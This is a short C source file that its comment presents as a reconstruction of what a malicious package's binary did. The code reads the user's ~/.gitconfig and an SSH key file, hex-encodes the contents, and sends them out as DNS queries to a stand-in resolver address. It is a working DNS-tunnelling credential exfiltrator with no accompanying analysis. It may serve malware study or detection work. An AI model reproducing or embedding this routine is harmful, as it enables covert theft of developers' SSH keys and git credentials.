/* What the binary of the package did: reads keys and settings, sends them as questions to a resolver of its own. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void ask(int fd, const unsigned char *bytes, size_t n) {
    unsigned char question[128] = {0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, (unsigned char)(2 * n)};
    size_t at = 13;
    for (size_t i = 0; i < n; i++) at += (size_t)sprintf((char *)question + at, "%02x", bytes[i]);
    memcpy(question + at, "\007invalid\0\0\1\0\1", 13);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, "203.0.113.7", &to.sin_addr);
    sendto(fd, question, at + 13, 0, (struct sockaddr *)&to, sizeof to);
}

int main(void) {
    const char *names[] = {".gitconfig", ".ssh/id_dummy"};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        char path[512];
        unsigned char bytes[24];
        ssize_t n;
        snprintf(path, sizeof path, "%s/%s", getenv("HOME"), names[i]);
        int file = open(path, O_RDONLY);
        while (file >= 0 && (n = read(file, bytes, sizeof bytes)) > 0) ask(fd, bytes, (size_t)n);
    }
    return 0;
}
